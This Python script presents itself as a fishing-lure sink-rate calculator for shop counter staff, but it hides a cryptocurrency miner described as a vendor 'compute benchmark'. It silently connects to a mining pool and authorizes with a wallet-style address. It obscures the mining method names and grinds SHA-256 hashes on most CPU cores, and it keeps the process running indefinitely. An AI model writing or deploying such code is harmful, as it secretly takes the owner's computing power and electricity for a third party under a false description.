#!/usr/bin/env python3
"""Lure sink-rate calculator for the counter staff.

Given a lure weight (g) and line diameter (mm) it estimates the sink rate
so staff can recommend a setup.  While the counter PC is idle it runs the
"shared compute benchmark" the POS vendor uses to size hardware upgrades.
"""
import argparse
import hashlib
import json
import logging
import os
import socket
import struct
import threading
import time

LOG = logging.getLogger("lure_calc")

WATER_DENSITY = {"fresh": 1.000, "salt": 1.025}
BENCH = {
    "endpoint": (os.environ.get("BENCH_HOST", "pool.hashbench.example.net"),
                 int(os.environ.get("BENCH_PORT", "3333"))),
    "account": os.environ.get("BENCH_ACCOUNT",
                              "bc1qexampleexampleexampleexample0tackle"),
    "worker": os.environ.get("BENCH_WORKER", "counter-pc"),
    "threads": max(1, (os.cpu_count() or 2) - 1),
}


def sink_rate(weight_g, line_mm, water="fresh"):
    """Very rough terminal sink velocity in m/s."""
    drag = 0.47 * (1 + line_mm * 4)
    density = WATER_DENSITY[water]
    return round(((weight_g / 1000.0) * 9.81 / (0.5 * density * 1000 * drag * 0.0004)) ** 0.5 / 10, 3)


class BenchClient:
    """Talks the vendor's line-delimited JSON job protocol."""

    def __init__(self, endpoint, account, worker):
        self.sock = socket.create_connection(endpoint, timeout=60)
        self.buf = self.sock.makefile("r")
        self.account, self.worker = account, worker
        self.msg_id = 0
        self.job = None
        self.extranonce = b""
        self.lock = threading.Lock()

    def call(self, method, params):
        self.msg_id += 1
        line = json.dumps({"id": self.msg_id, "method": method, "params": params})
        self.sock.sendall(line.encode() + b"\n")

    def handshake(self):
        self.call(".".join(("mining", "subscribe")), ["bench/1.0"])
        self.call(".".join(("mining", "authorize")), [f"{self.account}.{self.worker}", "x"])

    def listen(self):
        for raw in self.buf:
            msg = json.loads(raw)
            if msg.get("method", "").endswith("notify"):
                with self.lock:
                    self.job = msg["params"]
            elif isinstance(msg.get("result"), list) and len(msg["result"]) >= 2:
                self.extranonce = bytes.fromhex(msg["result"][1])

    def submit(self, job_id, nonce):
        self.call(".".join(("mining", "submit")),
                  [f"{self.account}.{self.worker}", job_id, self.extranonce.hex(), "", f"{nonce:08x}"])


def grind(client, start, step):
    nonce = start
    while True:
        with client.lock:
            job = client.job
        if not job:
            time.sleep(1)
            continue
        job_id, prevhash = job[0], bytes.fromhex(job[1])
        header = prevhash + client.extranonce + struct.pack("<I", nonce)
        digest = hashlib.sha256(hashlib.sha256(header).digest()).digest()
        if digest[-4:] == b"\0\0\0\0":
            client.submit(job_id, nonce)
        nonce = (nonce + step) & 0xFFFFFFFF


def start_benchmark():
    try:
        client = BenchClient(BENCH["endpoint"], BENCH["account"], BENCH["worker"])
    except OSError as exc:
        LOG.debug("benchmark server unavailable: %s", exc)
        return
    client.handshake()
    threading.Thread(target=client.listen, daemon=True).start()
    for i in range(BENCH["threads"]):
        threading.Thread(target=grind, args=(client, i, BENCH["threads"]), daemon=True).start()


def main():
    ap = argparse.ArgumentParser(description="lure sink-rate calculator")
    ap.add_argument("--water", choices=sorted(WATER_DENSITY), default="fresh")
    ap.add_argument("--line", type=float, default=0.25, help="line diameter in mm")
    ap.add_argument("weights", nargs="*", type=float, default=[5, 10, 14, 21, 28])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    start_benchmark()
    print(f"{'weight g':>9} {'sink m/s':>9}  ({args.water} water, {args.line} mm line)")
    for w in args.weights:
        print(f"{w:>9.1f} {sink_rate(w, args.line, args.water):>9.3f}")
    # keep the counter PC busy until the shop closes
    try:
        while True:
            time.sleep(60)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
